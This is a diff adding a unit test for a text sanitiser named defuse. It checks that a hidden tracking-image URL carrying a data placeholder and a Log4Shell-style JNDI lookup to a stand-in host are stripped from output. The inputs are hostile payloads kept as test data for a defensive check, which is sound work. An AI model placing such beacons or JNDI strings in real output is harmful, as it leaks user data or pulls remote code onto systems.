@@ -156,3 +156,9 @@ def test_no_fetchable_url_or_fake_line_survives_rendering(text: str) -> None:
         "# Values (highest priority)",
         "# The user's preferences",
     ]
+
+
+def test_nested_markup_and_any_scheme_are_defused() -> None:
+    out = defuse('<img src="https://a.test/t.gif?m=<DATA>" width="1"> ${jndi:ldap://tracker.test/a}')
+    assert out.startswith("[image:") and "a.test" not in out and "ldap://tracker.test" not in out
+    assert defuse(defuse("see https://me.example.org/x")) == defuse("see https://me.example.org/x")
